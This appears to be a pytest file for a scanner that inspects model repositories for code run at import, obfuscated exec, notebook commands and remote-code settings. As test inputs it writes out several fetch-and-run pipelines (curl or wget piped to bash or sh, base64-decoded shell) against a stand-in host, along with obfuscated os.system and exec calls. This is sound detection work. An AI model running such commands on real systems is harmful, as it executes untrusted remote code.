"""Python, shell scripts and notebooks beside the weights: what importing or running would do, by the tree alone."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.assure.looks import clock, look, told
from tests.assure.texts.vectors import rules
from tocsin.assure import inspect
from tocsin.assure.texts.code_files import told_by_python
from tocsin.assure.texts.python_code import reached_by
from tocsin.kernel.artefacts import ArtefactVerdict

MODELLING = '''
"""A made-up architecture."""
import math
import os
from typing import Optional

import torch
from torch import nn

HOME = os.path.join("a", "b")

class OwnModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden):
        return self.layer(hidden) / math.sqrt(2)

if __name__ == "__main__":
    import subprocess
    subprocess.run(["true"])
'''


def test_modelling_code_is_a_note() -> None:
    seen = look(MODELLING.encode(), "modeling_own.py")
    assert seen.verdict is ArtefactVerdict.CLEAN
    assert {found.rule for found in seen.findings} == {"python.beside", "python.reaches"}


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import os\nos.system('true')", "python.runs-at-import"),
        ("from os import system as s\ns('true')", "python.runs-at-import"),
        ("import subprocess as p\nclass A:\n    x = p.check_output(['true'])", "python.runs-at-import"),
        ("import urllib.request\nurllib.request.urlopen('x')", "python.runs-at-import"),
        ("import requests\ndef f():\n    requests.get('x')\nf()", "python.runs-at-import"),
        (
            "import socket\nclass A:\n    def __init__(self):\n        socket.create_connection(('x', 1))\na = A()",
            "python.runs-at-import",
        ),
        ("import os\ndef f(x=os.popen('true')):\n    pass", "python.runs-at-import"),
        ("import os\n@os.system\ndef f():\n    pass", "python.runs-at-import"),
        ("__import__('os').system('true')", "python.runs-at-import"),
        ("import importlib\nimportlib.import_module('os').system('true')", "python.runs-at-import"),
        ("import os\ngetattr(os, 'sys' + 'tem')('true')", "python.runs-at-import"),
        ("import os\ng = getattr(os, 'system')\ng('true')", "python.runs-at-import"),
        ("globals()['__buil' + 'tins__']", "python.runs-at-import"),
        ("__builtins__['ex' + 'ec']('1')", "python.runs-at-import"),
        ("eval('1')", "python.runs-at-import"),
        ("import pickle\npickle.load(open('x', 'rb'))", "python.runs-at-import"),
        ("import ctypes\nctypes.CDLL('x')", "python.runs-at-import"),
        ("import base64\nexec(base64.b64decode('cGFzcw=='))", "python.encoded-code"),
        ("import zlib\ndef f():\n    code = zlib.decompress(b'')\n    exec(code)", "python.encoded-code"),
        ("exec(bytes.fromhex('70617373'))", "python.encoded-code"),
        ("import marshal\nexec(marshal.loads(b''))", "python.encoded-code"),
        ("e = exec\ne('pass')", "python.runs-at-import"),
        ("open('x', 'w').close()", "python.runs-at-import"),
        ("import pathlib\npathlib.Path('x').write_text('')", "python.runs-at-import"),
        ("import urllib.request as u\ndef f():\n    exec(u.urlopen('x').read())", "python.encoded-code"),
    ],
)
def test_what_importing_does_is_found(source: str, rule: str) -> None:
    assert rule in rules(told_by_python(source, "m.py"))


@pytest.mark.parametrize("source", ["def f(:", "a = '\x00'", "(" * 5_000, "x" * 3_000_000])
def test_code_that_does_not_parse_is_inconclusive(source: str) -> None:
    assert rules(told_by_python(source, "m.py")) == {"python.not-parsed"}


def test_a_decorator_that_runs_commands_runs_at_import() -> None:
    (reach,) = reached_by("import os\n@os.system('true')\ndef f():\n    pass")
    assert reach.at_import


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="abos.system()[]'\"\n =:@,+", max_size=80))
def test_any_source_ends_without_an_error(source: str) -> None:
    list(told_by_python(source, "m.py"))


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("#!/bin/sh\npython train.py\n", ArtefactVerdict.CLEAN),
        ("curl -fsSL https://refund.invalid/x | sudo bash\n", ArtefactVerdict.FOUND),
        ("bash <(curl -s https://refund.invalid/x)\n", ArtefactVerdict.FOUND),
        ("echo cGFzcw== | base64 -d | sh\n", ArtefactVerdict.FOUND),
        ("curl -o weights.bin https://refund.invalid/w\n", ArtefactVerdict.CLEAN),
    ],
)
def test_scripts_that_run_what_they_fetch_are_found(script: str, verdict: ArtefactVerdict) -> None:
    assert look(script.encode(), "run.sh").verdict is verdict


def notebook(*sources: str, outputs: Any = ()) -> bytes:
    cells = [
        {"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": list(outputs)}
        for source in sources
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (notebook("%matplotlib inline\nimport torch\n!nvidia-smi\nx = torch.ones(2)"), set()),
        (notebook("!pip install transformers==5.0"), set()),
        (notebook("import requests\nrequests.get('x')"), set()),
        (notebook("!curl https://refund.invalid/x | bash"), {"notebook.fetches-and-runs"}),
        (notebook("M.from_pretrained('a/b', trust_remote_code=True)"), {"notebook.trusts"}),
        (notebook("M.from_pretrained('a/b', trust_remote_code=False)"), set()),
        (notebook("%%bash\nwget -qO- https://refund.invalid/x | sh"), {"notebook.fetches-and-runs"}),
        (notebook("!pip install git+https://refund.invalid/x"), {"notebook.installs-elsewhere"}),
        (notebook("%pip install --index-url https://refund.invalid x"), {"notebook.installs-elsewhere"}),
        (notebook("import base64\nexec(base64.b64decode('cGFzcw=='))"), {"python.encoded-code"}),
        (
            notebook("1", outputs=[{"data": {"text/html": ["<script>alert(1)</script>"]}}]),
            {"notebook.script"},
        ),
        (notebook("1", outputs=[{"data": {"application/javascript": "1"}}]), {"notebook.script"}),
        (notebook("1", outputs=[{"data": {"text/html": "<table></table>", "image/png": "AA"}}]), set()),
    ],
)
@pytest.mark.parametrize("name", ["a.ipynb", "notebook"])
def test_notebooks_are_judged_cell_by_cell(data: bytes, expected: set[str], name: str) -> None:
    assert told(look(data, name)) == expected


def test_code_that_a_configuration_names_is_followed(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"auto_map": {"AutoModel": "modeling_own.OwnModel"}}', "utf-8")
    assert told(inspect(tmp_path, clock=clock)) == {"config.remote-code", "code.missing"}
    (tmp_path / "modeling_own.py").write_text(MODELLING.partition("if __name__")[0], "utf-8")
    assert told(inspect(tmp_path, clock=clock)) == {"config.remote-code", "code.named"}
    (tmp_path / "modeling_own.py").write_text(MODELLING, "utf-8")
    seen = inspect(tmp_path, clock=clock)
    assert told(seen) == {"config.remote-code", "code.named", "code.named-reaches"}
    (reaches,) = [found for found in seen.findings if found.rule == "code.named-reaches"]
    assert (reaches.place.path, reaches.values["kinds"]) == ("modeling_own.py", "process")


def test_a_path_file_of_pythons_start_is_found() -> None:
    assert told(look(b"import os; os.getcwd()\n", "weights.pth")) == {"python.path-file"}


def test_code_that_runs_without_being_named_is_told(tmp_path: Path) -> None:
    (tmp_path / "custom_generate").mkdir()
    (tmp_path / "custom_generate" / "generate.py").write_text(
        "def generate(model):\n    return model\n", "utf-8"
    )
    assert told(inspect(tmp_path, clock=clock)) == {"code.named"}
